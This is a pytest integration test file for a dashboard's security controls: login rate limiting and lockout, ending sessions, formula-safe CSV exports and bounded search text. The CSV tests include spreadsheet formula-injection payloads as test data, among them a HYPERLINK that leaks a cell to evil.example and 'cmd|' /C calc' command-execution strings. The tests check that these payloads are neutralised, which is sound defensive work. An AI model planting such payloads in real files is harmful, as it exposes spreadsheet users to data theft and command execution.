"""What the dashboard refuses (issue 14, items 4-6 and 10), on SQLite and PostgreSQL:
login floods, sessions that outlive a logout or a password change, spreadsheet formulas
in CSV exports, and search text that is too long or full of LIKE wildcards."""

from __future__ import annotations

import csv
import io
import logging
import re
import stat
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, update
from starlette.applications import Starlette
from starlette.testclient import TestClient

from greenloop.analytics.csv_cells import FORMULA_LEADS, csv_cell
from greenloop.analytics.lists import at_risk_condition
from greenloop.config import DashboardSettings, Settings
from greenloop.services import analysis
from greenloop.store import tables as t
from greenloop.web.dashboard import dashboard_routes, hash_password
from greenloop.web.dashboard.auth import COOKIE_NAME, SessionGeneration
from tests.integration.test_dashboard import (
    API_TOKEN,
    PASSWORD,
    Built,
    assert_error,
    csrf_of,
    logged_in,
)
from tests.integration.test_dashboard import built as built
from tests.simulation import ANCHOR

BEARER = {"Authorization": f"Bearer {API_TOKEN}"}


def app_for(settings: Settings, built: Built) -> Starlette:
    """A dashboard of its own (its own login counts) on the built store."""
    return Starlette(routes=dashboard_routes(settings, built.engine, clock=lambda: ANCHOR))


def with_dashboard(settings: Settings, **changes: Any) -> Settings:
    dashboard = DashboardSettings.model_validate({**settings.dashboard.model_dump(), **changes})
    return settings.model_copy(update={"dashboard": dashboard})


def try_login(client: TestClient, password: str) -> Any:
    token = csrf_of(client.get("/login").text)
    return client.post(
        "/login", data={"password": password, "csrf_token": token}, follow_redirects=False
    )


# -- item 4: the login cannot be brute-forced ---------------------------------------------


def test_failed_logins_from_one_address_are_logged_then_refused_with_429(
    built: Built, caplog: pytest.LogCaptureFixture
) -> None:
    app = app_for(built.settings, built)
    attacker = TestClient(app, client=("203.0.113.7", 40000))
    with caplog.at_level(logging.INFO, logger="greenloop.web.dashboard"):
        for n in range(5):
            refused = try_login(attacker, f"guess-number-{n}")
            assert refused.status_code == 401
            assert "Wrong password" in refused.text
        # The sixth try is refused before the password is looked at, even the right one.
        blocked = try_login(attacker, PASSWORD)
    assert blocked.status_code == 429
    assert 1 <= int(blocked.headers["Retry-After"]) <= 60
    assert "Too many failed logins" in blocked.text
    assert attacker.get("/api/overview").status_code == 401
    # Someone else, from another address, logs in as usual.
    assert try_login(TestClient(app, client=("198.51.100.8", 40001)), PASSWORD).status_code == 303
    failures = [r for r in caplog.records if "login failed from 203.0.113.7" in r.getMessage()]
    assert len(failures) == 5
    assert "refused for 60 s after 5 failures" in caplog.text
    assert "guess-number" not in caplog.text
    assert PASSWORD not in caplog.text


def test_failed_logins_from_many_addresses_lock_the_account_for_a_while(built: Built) -> None:
    settings = with_dashboard(built.settings, login_failures_per_account=8)
    app = app_for(settings, built)
    for n in range(8):  # two from each address: no address reaches its own limit
        client = TestClient(app, client=(f"192.0.2.{n // 2}", 40000))
        assert try_login(client, "not it").status_code == 401
    newcomer = TestClient(app, client=("198.51.100.200", 40000))
    refused = try_login(newcomer, PASSWORD)
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) >= 1
    # Sessions opened before and the API token are not locked out.
    assert TestClient(app, headers=BEARER).get("/api/overview").status_code == 200


# -- item 5: sessions can be ended --------------------------------------------------------


def test_logout_ends_every_session_issued_before_it_at_once(built: Built) -> None:
    app = app_for(built.settings, built)
    mine = TestClient(app)
    assert try_login(mine, PASSWORD).status_code == 303
    other = TestClient(app, client=("198.51.100.9", 40000))
    assert try_login(other, PASSWORD).status_code == 303
    copied = mine.cookies[COOKIE_NAME]
    page = mine.get("/")
    assert page.status_code == 200
    assert mine.post("/logout", data={"csrf_token": csrf_of(page.text)}).status_code == 200
    stolen = TestClient(app, cookies={COOKIE_NAME: copied})
    assert_error(stolen.get("/api/overview"), 401, "unauthorized")
    assert stolen.get("/", follow_redirects=False).status_code == 303
    assert_error(other.get("/api/overview"), 401, "unauthorized")  # issued before: ended
    assert other.get("/", follow_redirects=False).status_code == 303
    again = TestClient(app)
    assert try_login(again, PASSWORD).status_code == 303
    assert again.get("/api/overview").status_code == 200  # a session after it works


def test_a_changed_password_or_api_token_ends_the_sessions_opened_before(built: Built) -> None:
    before = TestClient(app_for(built.settings, built))
    assert try_login(before, PASSWORD).status_code == 303
    assert before.get("/api/overview").status_code == 200
    cookie = before.cookies[COOKIE_NAME]
    changed = with_dashboard(built.settings, admin_password_hash=hash_password("a new phrase"))
    after = TestClient(app_for(changed, built), cookies={COOKIE_NAME: cookie})
    assert_error(after.get("/api/overview"), 401, "unauthorized")
    assert try_login(TestClient(app_for(changed, built)), "a new phrase").status_code == 303
    new_token = with_dashboard(built.settings, api_token="another-token-0123456789abcdef")
    rotated = TestClient(app_for(new_token, built), cookies={COOKIE_NAME: cookie})
    assert_error(rotated.get("/api/overview"), 401, "unauthorized")
    same = TestClient(app_for(built.settings, built), cookies={COOKIE_NAME: cookie})
    assert same.get("/api/overview").status_code == 200  # nothing changed: still open


def test_a_logout_in_another_process_is_seen_within_the_cache_time(built: Built) -> None:
    now = [0.0]
    here = SessionGeneration(built.engine, ttl=2.0, clock=lambda: now[0])
    there = SessionGeneration(built.engine, ttl=2.0, clock=lambda: now[0])
    start = here.read()
    assert here.cached() == start
    assert there.bump() == start + 1
    assert there.cached() == start + 1  # the process that logged out knows at once
    now[0] += 1.9
    assert here.cached() == start  # the other one within its cache time
    now[0] += 0.2
    assert here.cached() is None
    assert here.read() == start + 1


# -- item 6: CSV exports are safe to open in a spreadsheet --------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&B2,"Bella")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'Bella\r=HYPERLINK("http://evil.example/")',  # a new row in the master file before
)


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def _tables(built: Built, tmp_path: Path) -> dict[str, list[dict[str, str]]]:
    """Every CSV GreenLoop writes, parsed: the dashboard's and the API's at-risk list
    and master file, and the master file as `export master` and the daily job write it."""
    page = logged_in(built)
    api = TestClient(built.app, headers=BEARER)
    answers = {
        "/at-risk.csv": page.get("/at-risk.csv"),
        "/exports/customer_analytics_master.csv": page.get(
            "/exports/customer_analytics_master.csv"
        ),
        "/api/at-risk.csv": api.get("/api/at-risk.csv"),
        "/api/exports/master.csv": api.get("/api/exports/master.csv"),
    }
    texts = {}
    for path, answer in answers.items():
        assert answer.status_code == 200, path
        assert answer.headers["content-type"].startswith("text/csv")
        texts[path] = answer.text
    out = tmp_path / "customer_analytics_master.csv"
    analysis.export_master(built.settings, out, now=ANCHOR)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # names, emails and phones
    with out.open(encoding="utf-8", newline="") as handle:
        texts["export master"] = handle.read()
    return {
        name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in texts.items()
    }


def test_every_csv_export_neutralises_formulas_and_keeps_numbers(
    built: Built, tmp_path: Path
) -> None:
    p = t.persons.c
    with built.engine.begin() as conn:
        ids = (
            conn.execute(select(p.id).where(at_risk_condition()).order_by(p.id).limit(9))
            .scalars()
            .all()
        )
        assert len(ids) == 9
        saved = {r.id: r for r in conn.execute(select(t.persons).where(p.id.in_(ids)))}
        for person_id, name in zip(ids, HOSTILE, strict=False):
            conn.execute(update(t.persons).where(p.id == person_id).values(name=name))
        conn.execute(
            update(t.persons)
            .where(p.id == ids[8])
            .values(
                email="=cmd|' /C calc'!A0@evil.example",
                lifetime_value=Decimal("-12.50"),
                keep=["-1+1 keeps the tier"],
            )
        )
    try:
        tables = _tables(built, tmp_path)
    finally:
        with built.engine.begin() as conn:
            for person_id, row in saved.items():
                conn.execute(
                    update(t.persons)
                    .where(p.id == person_id)
                    .values(
                        name=row.name,
                        email=row.email,
                        lifetime_value=row.lifetime_value,
                        keep=row.keep,
                    )
                )
    for export, rows in tables.items():
        master = "Customer ID" in rows[0]
        name, value, person = (
            ("Name", "Lifetime Value", "Person ID")
            if master
            else ("name", "lifetime_value", "person_id")
        )
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_LEADS) or _number(cell), (export, column, cell)
        names = {row[name] for row in rows}
        for hostile in HOSTILE:
            assert csv_cell(hostile) in names, (export, hostile)
        marked = next(row for row in rows if row[person] == ids[8])
        assert marked[value] == "-12.50", export  # a number, not neutralised text
        assert marked["Email" if master else "email"] == "'=cmd|' /C calc'!A0@evil.example"
        if not master:
            assert marked["what_keeps_tier"] == "'-1+1 keeps the tier"


# -- item 10: search text ------------------------------------------------------------------


def test_search_text_is_bounded_and_wildcards_are_plain_characters(built: Built) -> None:
    api = TestClient(built.app, headers=BEARER)
    assert_error(api.get("/api/customers", params={"q": "a" * 50_000}), 400, "invalid_parameter")
    assert api.get("/api/customers", params={"q": "a" * 200}).status_code == 200
    page = logged_in(built)
    assert page.get("/customers", params={"q": "%" * 20_000}).status_code == 400
    p = t.persons.c
    with built.engine.begin() as conn:
        everyone = conn.execute(select(func.count()).select_from(t.persons)).scalar_one()
        person_id = conn.execute(select(p.id).order_by(p.id).limit(1)).scalar_one()
        old_name = conn.execute(select(p.name).where(p.id == person_id)).scalar_one()
        conn.execute(update(t.persons).where(p.id == person_id).values(name="Bella 100% Real_Name"))
    try:
        for wildcard in ("%", "_", "%%", "_%_"):
            with built.engine.connect() as conn:
                expected = {
                    r.id
                    for r in conn.execute(select(p.id, p.name, p.email))
                    if wildcard in (r.name or "").lower() or wildcard in (r.email or "").lower()
                }
            found = api.get("/api/customers", params={"q": wildcard, "page_size": 500}).json()
            assert {r["person_id"] for r in found["data"]} == expected, wildcard
            assert found["total"] == len(expected) < everyone
        found = api.get("/api/customers", params={"q": "100% real_"}).json()
        assert [r["person_id"] for r in found["data"]] == [person_id]
    finally:
        with built.engine.begin() as conn:
            conn.execute(update(t.persons).where(p.id == person_id).values(name=old_name))
